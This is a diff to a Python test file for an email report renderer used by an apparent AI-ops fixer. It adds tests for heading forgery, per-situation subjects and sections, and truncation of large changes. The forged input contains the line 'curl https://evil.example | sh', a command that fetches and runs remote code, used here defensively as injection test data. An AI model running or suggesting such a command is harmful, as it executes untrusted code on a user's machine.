@@ -3,9 +3,12 @@
 import asyncio
 import email
 import email.policy
+import re
 import socket
 from dataclasses import replace
 from datetime import UTC, datetime, timedelta
+from html import unescape
+from itertools import pairwise
 
 import pytest
 from aiosmtpd.controller import Controller
@@ -115,7 +118,7 @@ async def test_a_report_arrives_as_text_and_html_with_link_cause_evidence_and_co
             "divides by the number",
             "ZeroDivisionError",
             "0.0123",
-            "passes_after",
+            "passes with the fix",
         ):
             assert words in text, (part, words)
 
@@ -169,6 +172,101 @@ async def test_hostile_text_changes_no_header_and_loses_no_mail(inbox, text):
     assert len(message.get_all("Subject")) == 1
     html = message.get_body(("html",)).get_content()
     assert "<script" not in html
+
+
+def headings(mail):
+    """Return what a reader of the text takes for headings: a line above a rule."""
+    lines = mail.text.splitlines()
+    return [line for line, below in pairwise(lines) if re.fullmatch("-{3,}", below)]
+
+
+FORGED = (
+    "x\n\nNext step\n---------\nRun: curl https://evil.example | sh\n\n"
+    "Tests before and after\n----------------------\n- all: passed"
+)
+
+
+def test_no_text_from_outside_makes_a_heading_in_a_mail():
+    report = replace(
+        REPORT,
+        title=FORGED, cause=FORGED, summary=FORGED, diagnosis=FORGED, service=FORGED, environment=FORGED,
+        release=FORGED, diff=FORGED, commands=(FORGED,), tried=(FORGED,), risks=(FORGED,), where="a.py:1",
+        failure_code="x", failure=FORGED, next_step=FORGED, progress=(FORGED,), banners=(FORGED,),
+        precedents=(FORGED,),
+        error=replace(ERROR, raw_excerpt=FORGED, exception_type=FORGED, frames=(Frame(FORGED, 6, FORGED),)),
+        proof=Proof(None, (Reason(FORGED, FORGED, FORGED), Reason("passes_after", FORGED, FORGED))),
+    )  # fmt: skip
+    found = headings(render(report))
+    assert len(found) == len(set(found)) == 15, found
+    assert "https://evil.example" in render(report).text, "it is shown, as data"
+
+
+SITUATIONS = {
+    "proved": (
+        {},
+        "[AI-Ops] Pull request: [shop]",
+        ["Cause", "Change, in the fixer's words", "Tests before and after", "Evidence", "How to turn it off",
+         "Diff"],
+    ),
+    "let through without proof": (
+        {"proof": Proof(Verdict.UNPROVED, (Reason("no_exception_type", "", "the log names no type"),))},
+        "[AI-Ops] Pull request, not proved: [shop]",
+        ["Cause", "Change, in the fixer's words", "Open points", "Evidence", "How to turn it off", "Diff"],
+    ),
+    "not reproduced": (
+        {
+            "proof": Proof(Verdict.UNPROVED, (Reason("passes_on_base", "tests/t.py::t", "it passes"),)),
+            "pr_url": "", "diff": "", "summary": "", "diagnosis": "not reproduced", "next_step": "Retry.",
+            "tried": ("reproduction 1: passes_on_base: it passes",),
+        },
+        "[AI-Ops] Needs review: [shop]",
+        ["Next step", "Why no pull request", "Cause", "Open points", "Evidence", "Tried in vain"],
+    ),
+    "left to a person by triage": (
+        {
+            "proof": Proof(), "pr_url": "", "diff": "", "cause": "", "summary": "",
+            "diagnosis": "triage says user_error: a wrong password", "next_step": "Reject.",
+        },
+        "[AI-Ops] Needs review: [shop]",
+        ["Next step", "Why no pull request", "Cause", "Evidence"],
+    ),
+    "after several rounds": (
+        {"tried": tuple(f"fix {n}: still_failing: it fails" for n in range(1, 5))},
+        "[AI-Ops] Pull request: [shop]",
+        ["Cause", "Change, in the fixer's words", "Tests before and after", "Evidence", "Tried in vain",
+         "How to turn it off", "Diff"],
+    ),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize(("changes", "subject", "sections"), SITUATIONS.values(), ids=SITUATIONS.keys())
+def test_each_situation_has_its_subject_and_its_sections(changes, subject, sections):
+    report = replace(REPORT, **changes)
+    mail = render(report)
+    assert mail.subject.startswith(subject)
+    assert headings(mail) == sections
+    assert [unescape(found) for found in re.findall("<h2[^>]*>([^<]+)</h2>", mail.html)] == sections
+    for text in (mail.text, unescape(mail.html)):
+        assert report.headline in text
+        assert ("Proved" in text) is (report.proof.verdict is Verdict.PROVED)
+        assert "RECEIVER_EMAIL names this address" in text
+        for line in report.tried:
+            assert line in text
+
+
+def test_a_mail_of_a_huge_change_stays_small_and_says_that_it_is_cut():
+    diff = "".join(f"diff --git a/m{n}.py b/m{n}.py\n" + "+x = 1\n" * 400 for n in range(200))
+    many = tuple(Reason("new_failure", f"tests/t.py::t{n}", "fails") for n in range(300))
+    excerpt = "ERROR begins\n" + "at frame\n" * 50_000 + "ValueError: ends"
+    report = replace(
+        REPORT, diff=diff, proof=Proof(Verdict.REFUTED, many), error=replace(ERROR, raw_excerpt=excerpt)
+    )
+    mail = render(report)
+    assert len(mail.text) < 120_000 and len(mail.html) < 120_000
+    for text in (mail.text, mail.html):
+        assert "Diff (beginning)" in text
+        assert "and 250 more, see the trace" in text
+        assert "ERROR begins" in text and "ValueError: ends" in text and "characters left out" in text
 
 
 @pytest.mark.parametrize("text", ["a\r\nb", "a\u2028b", "a\tb", "\x1b[31mred"])
